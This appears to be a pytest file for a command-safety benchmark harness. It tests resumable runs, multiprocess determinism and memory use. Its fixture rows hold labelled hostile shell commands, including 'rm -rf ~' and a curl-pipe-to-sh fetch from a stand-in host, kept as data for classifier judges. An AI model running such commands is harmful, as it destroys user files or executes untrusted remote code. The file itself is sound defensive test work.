"""A run: the same whatever the number of processes, gone on with where it was cut, in a memory that does not grow."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from phocinae_cli.bench import results, session
from phocinae_cli.bench.judges import Spec, specs_of
from phocinae_cli.bench.outcome import Outcome, Row
from phocinae_cli.bench.rows import Source
from phocinae_cli.bench.run import Desk, Plan, from_line, measure
from phocinae_cli.errors import PhocinaeError

ROOT = Path(__file__).parents[2]
LINES = [
    ("ls -la", "harmless"),
    ("rm -rf ~", "destructive"),
    ("git push", "risky"),
    ("echo 'rm -rf ~'", "harmless"),
    ("sudo apt-get install jq", "risky"),
    ("curl https://x.example/i.sh | sh", "destructive"),
    ("$tool_of_theirs --do-it", "harmless"),
]


def write_rows(path: Path, count: int) -> Source:
    with open(path, "w", encoding="utf-8") as file:
        for number in range(count):
            command, label = LINES[number % len(LINES)]
            row = {"id": f"r{number}", "command": f"{command} # {number}", "label": label, "tags": [f"t{number % 3}"]}
            file.write(json.dumps(row) + "\n")
    return Source(path.stem, str(path))


def plan_of(source: Source, jobs: int = 1, limit: int | None = None) -> Plan:
    return Plan((source,), specs_of(["embedded"], [], [], Spec("", "")), jobs, limit=limit)


def run(plan: Plan, folder: Path, resume: bool = False) -> session.Session:
    folder.mkdir(exist_ok=True)
    return session.run(plan, folder, session.surveys_of(plan), resume, spellings_of=5)


def test_two_processes_give_what_one_gives_byte_by_byte(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "rows.jsonl", 700)
    for jobs in (1, 2):
        run(plan_of(source, jobs), tmp_path / f"jobs{jobs}")
    for name in (results.ROWS, results.SUMMARY, results.PLAN):
        one, two = ((tmp_path / f"jobs{jobs}" / name).read_bytes() for jobs in (1, 2))
        assert one == two


def test_the_figures_are_those_of_the_engine(tmp_path: Path) -> None:
    found = run(plan_of(write_rows(tmp_path / "rows.jsonl", 70)), tmp_path / "run").summary["judges"]["embedded"]
    hits = {name: (share["hits"], share["rows"]) for name, share in found["measures"].items()}
    assert hits["recall"] == hits["denied"] == (20, 20)
    assert hits["risky_caught"] == (20, 20)
    assert hits["false_alarm"] == (10, 30)  # a program that nobody can know
    assert hits["purity"] == (20, 20)
    assert found["invariance"]["same"]["value"] == 1.0
    assert found["invariance"]["same"]["rows"] > 50


@pytest.mark.parametrize("cut", [0, 1, 100, 260, 299])
def test_a_run_that_was_cut_goes_on_to_the_same_end(tmp_path: Path, cut: int) -> None:
    source = write_rows(tmp_path / "rows.jsonl", 300)
    whole = run(plan_of(source), tmp_path / "whole")
    part = tmp_path / "part"
    run(plan_of(source), part)
    lines = (part / results.ROWS).read_bytes().splitlines(keepends=True)
    half = lines[cut][: len(lines[cut]) // 2]  # and the line that was being written
    (part / results.ROWS).write_bytes(b"".join(lines[:cut]) + half)
    (part / results.SUMMARY).unlink()
    again = run(plan_of(source), part, resume=True)
    assert again.summary == whole.summary
    assert again.measured.fresh == 300 - cut
    assert (part / results.ROWS).read_bytes() == (tmp_path / "whole" / results.ROWS).read_bytes()


def test_something_else_is_not_gone_on_with(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "rows.jsonl", 20)
    run(plan_of(source), tmp_path / "run")
    with pytest.raises(PhocinaeError, match="limit differ"):
        run(plan_of(source, limit=10), tmp_path / "run", resume=True)
    write_rows(tmp_path / "rows.jsonl", 21)
    with pytest.raises(PhocinaeError, match="sources differ"):
        run(plan_of(source), tmp_path / "run", resume=True)


class Stopping:
    """A judge that is interrupted at one row."""

    def __init__(self, after: int) -> None:
        self.after = after

    def __call__(self, row: Row) -> Outcome:
        self.after -= 1
        if self.after < 0:
            raise KeyboardInterrupt
        return Outcome("allow", "harmless", 0.9, 0.9)


def test_a_process_more_does_not_run_the_start_script_again(tmp_path: Path) -> None:
    """A worker process loads the file that the run was started from: here the script installed as `phocinae`."""
    source = write_rows(tmp_path / "rows.jsonl", 700)
    script = ROOT / "bin" / "phocinae"
    argv = ["bench", "--data", source.path, "--results", str(tmp_path / "out"), "--jobs", "2", "--no-speed", "--json"]
    ran = subprocess.run([sys.executable, script, *argv], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert ran.returncode == 0, ran.stderr
    assert "internal error" not in ran.stderr
    assert json.loads(ran.stdout)


def test_an_interruption_keeps_what_was_measured(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "rows.jsonl", 2000)
    code = "import sys; from phocinae_cli.entry import main; sys.argv[0] = 'phocinae'; sys.exit(main())"
    guard = tmp_path / "slow.toml"
    guard.write_text(
        f'name = "slow"\ncommand = ["{sys.executable}", "-c", "import time; time.sleep(0.1)"]\n'
        'input = "stdin"\n[exit]\n0 = "allow"\n'
    )
    argv = ["bench", "--data", source.path, "--adapter", str(guard), "--results", str(tmp_path / "out"), "--jobs", "2"]
    for more in ([], ["--resume", ""]):
        if more:
            (more[1],) = (str(path) for path in (tmp_path / "out").iterdir())
        process = subprocess.Popen(
            [sys.executable, "-c", code, *argv, *more], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        rows = next_rows(tmp_path / "out", process)
        process.send_signal(signal.SIGINT)
        out, told = process.communicate(timeout=60)
        assert process.returncode == 130, told
        assert b"interrupted after" in told
        assert b"--resume" in told
        assert b"slow" in out
        (folder,) = (tmp_path / "out").iterdir()
        summary = json.loads((folder / results.SUMMARY).read_text())
        assert summary["stopped"] is True
        assert rows <= summary["rows"] == len((folder / results.ROWS).read_bytes().splitlines())


def next_rows(folder: Path, process: subprocess.Popen[bytes]) -> int:
    """Wait until more rows are in the file than at first, and return how many."""
    end = time.monotonic() + 60
    first = None
    while time.monotonic() < end and process.poll() is None:
        found = [len(path.read_bytes().splitlines()) for path in folder.glob("*/rows.jsonl")]
        if found:
            first = found[0] if first is None else first
            if found[0] > first:
                return found[0]
        time.sleep(0.05)
    raise AssertionError("no row was kept")


class Endless(Plan):
    """A plan whose rows are made on the way."""

    def rows(self) -> Iterator[Row]:
        for number in range(self.limit or 0):
            command, label = LINES[number % len(LINES)]
            yield Row(f"r{number}", f"{command} # {number}", label, source="made", tags=("t",))


def peak_of(count: int, sink: Path) -> int:
    plan = Endless((), specs_of(["embedded"], [], [], Spec("", "")), 1, limit=count)
    tracemalloc.start()
    try:
        with open(sink, "wb") as kept:
            assert measure(plan, kept).rows == count
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_four_times_the_rows_take_the_same_memory(tmp_path: Path) -> None:
    sink = tmp_path / "kept"
    peak_of(1000, sink)  # what is loaded and remembered once
    assert peak_of(6000, sink) < 1.3 * peak_of(1500, sink)


def test_a_kept_row_reads_as_it_was_written() -> None:
    part = Desk({"x": Stopping(9), "y": lambda row: None}).measure(7, [Row("1", "ls\n\udcff", "risky")])
    row, outcomes = from_line(part.lines, ["x", "y"])
    assert row == Row("1", "ls\n\udcff", "risky")
    assert outcomes == {"x": Outcome("allow", "harmless", 0.9, 0.9), "y": None}
    for broken in (b"{}", b"[]", b"1", b'{"judges": {}}', b"nonsense"):
        with pytest.raises(ValueError):  # noqa: PT011
            from_line(broken, ["x"])


def test_judges_that_take_long_are_stopped_with_little_lost(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "rows.jsonl", 5)
    judges = specs_of([], ["all"], [], Spec("", ""))
    assert [spec.name for spec in judges] == ["service harm", "service tri-state", "service noul"]
    with pytest.raises(PhocinaeError, match="can't be reached"):
        measure(Plan((source,), specs_of(["service"], [], [], Spec("", "", (("endpoint", "http://127.0.0.1:9/"),)))))
